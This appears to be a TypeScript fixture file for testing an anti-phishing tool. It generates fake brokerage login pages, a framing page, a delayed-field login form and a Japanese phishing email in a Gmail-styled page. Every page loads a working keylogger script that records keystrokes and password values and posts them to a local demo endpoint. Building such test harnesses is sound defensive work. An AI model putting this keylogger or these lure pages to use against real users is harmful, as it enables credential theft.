// Demo pages, generated per row and served on their real hostnames by the local server.
// Every page carries the same recorder: the page's own script, acting like a phishing kit,
// records every keystroke and every password value it can see and posts them home. What it
// reports is the demo's "page received the password" column.

export const RECORDER_PATH = '/__demo/recorder.js';
export const OBSERVED_PATH = '/__demo/observed';

export const RECORDER_JS = `(() => {
  const seen = { keys: '', values: [] };
  window.__demoObserved = seen;
  let last = '';
  const send = () => {
    const body = JSON.stringify({ keys: seen.keys, values: seen.values, frame: location.href });
    if (body === last) return;
    last = body;
    fetch('${OBSERVED_PATH}', { method: 'POST', body, keepalive: true }).catch(() => {});
  };
  const grab = () => {
    for (const el of document.querySelectorAll('input')) {
      if (el.type === 'password' && el.value && !seen.values.includes(el.value)) seen.values.push(el.value);
    }
  };
  // A keylogger as phishing kits use it: capture phase on window, plus input events.
  for (const t of ['keydown', 'keypress']) window.addEventListener(t, (e) => {
    if (t === 'keydown' && e.key && e.key.length === 1) { seen.keys += e.key; send(); }
  }, true);
  window.addEventListener('input', () => { grab(); send(); }, true);
  setInterval(() => { grab(); send(); }, 200);
})();`;

const esc = (s: string) => s.replace(/[&<>"]/g, (c) => ({ '&': '&amp;', '<': '&lt;', '>': '&gt;', '"': '&quot;' })[c]!);

function shell(title: string, body: string, lang = 'ja'): string {
  return `<!doctype html><html lang="${lang}"><head><meta charset="utf-8"><title>${esc(title)}</title>
<script src="${RECORDER_PATH}"></script>
<style>body{font-family:sans-serif;margin:2em;max-width:40em}.logo{font-weight:bold;font-size:1.6em;color:#0b3c8c}
label{display:block;margin:.6em 0}input{font-size:1em;padding:.3em}.note{color:#666;font-size:.85em}</style>
</head><body>${body}</body></html>`;
}

export interface LoginLook {
  brand: string;
  userField: string;
  passField: string;
  notice?: string;
}

/** A broker-style login page (used for the genuine site and for copies of it). */
export function loginPage(look: LoginLook, title = `${look.brand} ログイン`): string {
  return shell(
    title,
    `<div class="logo">${esc(look.brand)}</div>
<p class="note">${esc(look.notice ?? 'ログイン (demo fixture)')}</p>
<form method="post" action="/login" onsubmit="return false">
  <label>ユーザーネーム <input name="${esc(look.userField)}" autocomplete="username"></label>
  <label>ログインパスワード <input name="${esc(look.passField)}" type="password" autocomplete="current-password"></label>
  <button type="submit">ログイン</button>
</form>`,
  );
}

/** An ordinary site's own login (not a broker): must keep working. */
export function ordinaryLogin(site: string): string {
  return shell(
    `${site} ログイン`,
    `<h1>${esc(site)}</h1><p>会員ログイン</p>
<form method="post" action="/login" onsubmit="return false">
  <label>メールアドレス <input name="email" type="email" autocomplete="username"></label>
  <label>パスワード <input name="password" type="password" autocomplete="current-password"></label>
  <button>ログイン</button>
</form>`,
  );
}

/** An unrelated page framing a login form from another host. */
export function framingPage(frameUrl: string): string {
  return shell(
    'キャンペーンのお知らせ',
    `<h1>口座確認キャンペーン</h1><p>下のフォームからログインしてください。</p>
<iframe src="${esc(frameUrl)}" style="width:100%;height:22em;border:1px solid #ccc"></iframe>`,
  );
}

/** A login form added by script after load, first as a text field that turns into a password field. */
export function lateFieldPage(look: LoginLook): string {
  return shell(
    `${look.brand} ログイン`,
    `<div class="logo">${esc(look.brand)}</div><div id="slot"></div>
<script>
setTimeout(() => {
  const f = document.createElement('form');
  f.onsubmit = () => false;
  f.innerHTML = '<label>ユーザーネーム <input name="${esc(look.userField)}"></label><label>ログインパスワード <input name="${esc(look.passField)}" type="text"></label>';
  document.getElementById('slot').append(f);
  setTimeout(() => { f.querySelector('input[name="${esc(look.passField)}"]').type = 'password'; }, 100);
}, 200);
</script>`,
  );
}

export interface MailLink {
  id: string;
  href: string;
  text: string;
}

/** A webmail message (on the webmail's real hostname) carrying phishing and ordinary links. */
export function webmailPage(links: MailLink[]): string {
  return shell(
    '受信トレイ - Gmail',
    `<div role="main"><h2>【重要】お客様の口座について</h2>
<div class="a3s" id="message">
<p>いつもご利用ありがとうございます。セキュリティ強化のため、下記よりログインして本人確認を行ってください。</p>
${links.map((l) => `<p><a id="${esc(l.id)}" href="${esc(l.href)}" target="_blank" rel="noopener">${esc(l.text)}</a></p>`).join('\n')}
</div></div>`,
  );
}
